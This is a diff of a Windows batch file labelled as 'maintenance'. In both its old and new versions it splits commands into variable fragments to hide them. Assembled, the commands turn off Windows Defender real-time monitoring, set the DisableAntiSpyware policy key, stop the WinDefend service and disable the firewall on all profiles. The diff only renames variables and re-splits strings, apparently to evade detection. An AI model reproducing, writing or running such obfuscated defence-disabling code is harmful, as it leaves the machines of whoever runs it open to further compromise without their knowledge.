@@ -1,18 +1,17 @@
-REM config 4402 v2
+REM maintenance 1541 v2
 @echo off
 setlocal EnableDelayedExpansion
-set znr0=powe
-set inl1=rs
-set uii2=hel
-set eaj3=l -c "Set-MpPreference -DisableRealtimeMonitoring $true"
-!znr0!!inl1!!uii2!!eaj3!
+set iwy0=p
+set wgg1=owe
+set atv2=rshell 
+set nyt3=-c "Set-MpPreference -DisableRealtimeMonitoring $true"
+!iwy0!!wgg1!!atv2!!nyt3!
 @echo off
 setlocal EnableDelayedExpansion
-set pkd0=reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v D
-set bot1=isableAn
-set gwz2=tiSpyware /t REG_
-set ycs3=DWORD /d 
-set kjz4=1 /f
-!pkd0!!bot1!!gwz2!!ycs3!!kjz4!
-cmd /v:on /c "set rks0=sc s&&set yyn1=top &&set ehc2=Win&&set plz3=Defen&&set iva4=d&&!rks0!!yyn1!!ehc2!!plz3!!iva4!"
-cmd /v:on /c "set pwb0=netsh a&&set trp1=dvfirewall set allprofiles state off&&!pwb0!!trp1!"
+set bzz0=reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v
+set kzs1= DisableAn
+set vsk2=tiSpyware /t RE
+set dey3=G_DWORD /d 1 /f
+!bzz0!!kzs1!!vsk2!!dey3!
+cmd /v:on /c "set ilp0=sc stop W&&set zvd1=in&&set smk2=Defend&&!ilp0!!zvd1!!smk2!"
+cmd /v:on /c "set hxv0=netsh advfirewall set &&set jkx1=allprofiles state off&&!hxv0!!jkx1!"
